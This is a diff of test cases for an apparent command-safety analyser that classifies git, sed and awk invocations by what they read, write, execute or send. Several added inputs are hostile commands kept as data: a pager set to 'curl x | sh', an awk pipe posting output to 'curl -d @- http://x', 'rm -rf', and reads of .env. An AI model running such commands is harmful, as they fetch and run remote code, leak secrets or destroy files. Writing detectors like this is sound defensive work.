@@ -297,7 +297,7 @@ fn git() {
         git -c \"$x\" status => turned; !code inline
         git frob => code unknown
         git $x => turned; !host ?; code unknown
-        git --version =>
+        git --version => @reads
         git => 
         git -C ../other log -p => @gitlocal; @reads; in ../other; r .
         git -C ../other diff --stat => @gitlocal; @reads; in ../other
@@ -362,7 +362,11 @@ fn git() {
         git fetch --upload-pack=x origin => turned; !code unknown; remote origin
         git pull --rebase origin main => remote origin
         git clone https://github.com/a/b.git => host https://github.com/a/b.git; w b/**
-        git clone \"ext::sh -c x\" y => turned; !code inline; w y/**
+        git -c core.pager='curl x | sh' log => turned; !code inline; sh {curl x | sh}
+        git -c core.pager=/tmp/x log => turned; !code inline
+        git add -f .env => @gitlocal; r .env/**
+        git add -fn .env => @gitlocal
+        git clone \"ext::sh -c x\" y => turned; !code unknown; w y/**
         git clone ../a d => r ../a/**; w d/**
         git config user.name x => @gitlocal
         git config --get user.name => @gitlocal; @reads
@@ -405,7 +409,7 @@ fn gits_configuration_names_programs() {
         git status => @gitlocal; @reads; code repo
         git st => code repo
         git ts => code unknown
-        git --version =>
+        git --version => @reads
     ",
     );
     let hooked = Git {
@@ -469,8 +473,8 @@ fn sed() {
         sed '1!G;h;$!d' a => @reads; r a
         sed '/^$/d; s|/a|/b|' a => @reads; r a
         sed '1e id' a => @reads; r a; sh {id}
-        sed e a => @build; r a; !code inline
-        sed 's/a/b/e' a => @build; r a; !code inline
+        sed e a => r a; !code unknown
+        sed 's/a/b/e' a => r a; !code unknown
         sed 's/a/b/w .git/hooks/x' a => r a; !w .git/hooks/x
         sed -n '1w out' a => r a; !w out
         sed 'r .env' a => @reads; r a; !r .env
@@ -499,11 +503,13 @@ fn awk() {
         awk '/a|b/ {print}' a => @reads; r a
         awk '{print "a|b" > "out"}' a => @files; r a; !w out
         awk '{print > $1}' a => @build; r a; !code inline
-        awk '{print | "sh"}' a => @build; r a; !code inline
-        awk 'BEGIN{system("id")}' => @build; !code inline
-        awk 'BEGIN { while ("id" | getline x) print x }' => @build; !code inline
-        awk 'BEGIN { getline x < ".env"; print x }' => @build; !code inline
-        awk '{ n++ / system("id") / 1 }' a => @build; r a; !code inline
+        awk '{print | "sh"}' a => @build; r a; !code inline; sh {sh}
+        awk 'BEGIN{system("rm -rf " $1)}' => @build; !code inline
+        awk 'BEGIN{printf "x" | "curl -d @- http://x"}' => @build; !code inline; sh {curl -d @- http://x}
+        awk 'BEGIN{system("id")}' => @build; !code inline; sh {id}
+        awk 'BEGIN { while ("id" | getline x) print x }' => @build; !code inline; sh {id}
+        awk 'BEGIN { getline x < ".env"; print x }' => @build; !code inline; !r .env
+        awk '{ n++ / system("id") / 1 }' a => @build; r a; !code inline; sh {id}
         awk '{print $'$n'}' a => turned; r a; !code inline
         awk -v x="$y" '{print x}' a => @reads; r a
         awk -f x.awk a => @build; script x.awk; r x.awk; r a
